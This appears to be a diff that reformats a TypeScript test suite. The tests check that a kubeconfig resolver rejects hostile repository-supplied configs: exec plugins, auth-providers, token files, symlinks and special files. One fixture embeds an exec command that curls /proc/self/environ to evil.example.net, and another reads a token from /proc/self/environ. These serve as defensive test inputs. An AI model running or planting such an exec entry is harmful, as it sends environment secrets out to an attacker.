@@ -29,7 +29,10 @@ current-context: x
 }
 
 const hostileUsers = {
-  'an exec plugin': ['    exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, "curl evil.example.net -d @/proc/self/environ"]}', /runs the exec plugin sh/],
+  'an exec plugin': [
+    '    exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, "curl evil.example.net -d @/proc/self/environ"]}',
+    /runs the exec plugin sh/,
+  ],
   'an auth-provider': ['    auth-provider: {name: oidc, config: {client-id: x}}', /uses the oidc auth-provider/],
   'a token file': ['    token-file: /proc/self/environ', /reads its token from a file/],
 } as const;
@@ -42,7 +45,9 @@ describe('kubeconfig from a repository file', () => {
       const file = path.join(workspace, `${what.replace(/ /g, '-')}.kubeconfig`);
       writeFileSync(file, kubeconfig(user));
       await expect(resolveKubeconfig({ provider: 'kubeconfig', path: file }, ctx())).rejects.toThrow(message);
-      await expect(resolveKubeconfig({ provider: 'kubeconfig', path: file }, ctx())).rejects.toThrow(/is part of the repository and its user hostile/);
+      await expect(resolveKubeconfig({ provider: 'kubeconfig', path: file }, ctx())).rejects.toThrow(
+        /is part of the repository and its user hostile/,
+      );
     });
   }
 
@@ -52,17 +57,23 @@ describe('kubeconfig from a repository file', () => {
     const link = path.join(outside, 'link.kubeconfig');
     symlinkSync(file, link);
     await expect(resolveKubeconfig({ provider: 'kubeconfig', path: link }, ctx())).rejects.toThrow(/exec plugin/);
-    await expect(resolveKubeconfig({ provider: 'kubeconfig', path: path.relative(process.cwd(), file) }, ctx())).rejects.toThrow(/exec plugin/);
+    await expect(
+      resolveKubeconfig({ provider: 'kubeconfig', path: path.relative(process.cwd(), file) }, ctx()),
+    ).rejects.toThrow(/exec plugin/);
   });
 
   it('refuses a base-branch copy marked fromRepository even though it lives outside the checkout', async () => {
     const file = path.join(outside, 'base-copy.kubeconfig');
     writeFileSync(file, kubeconfig(hostileUsers['an exec plugin'][0]));
-    await expect(resolveKubeconfig({ provider: 'kubeconfig', path: file, fromRepository: true } as never, ctx())).rejects.toThrow(/exec plugin/);
+    await expect(
+      resolveKubeconfig({ provider: 'kubeconfig', path: file, fromRepository: true } as never, ctx()),
+    ).rejects.toThrow(/exec plugin/);
   });
 
   it('refuses special files instead of reading them', async () => {
-    await expect(resolveKubeconfig({ provider: 'kubeconfig', path: workspace }, ctx())).rejects.toThrow(/not a regular file/);
+    await expect(resolveKubeconfig({ provider: 'kubeconfig', path: workspace }, ctx())).rejects.toThrow(
+      /not a regular file/,
+    );
   });
 
   it('a kubeconfig of the runner (outside the checkout, e.g. written by a setup step) may use exec as kubectl would', async () => {
